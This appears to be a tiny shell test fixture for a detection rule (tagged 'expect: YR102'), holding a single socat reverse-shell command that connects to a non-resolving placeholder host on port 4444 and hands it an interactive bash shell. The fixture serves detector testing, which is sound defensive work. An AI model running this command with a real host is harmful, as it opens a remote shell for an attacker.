#!/bin/sh
# Inert fixture: the canary host never resolves (.invalid).
socat tcp-connect:canary.modelgate.invalid:4444 exec:/bin/bash,pty,stderr,setsid  # expect: YR102
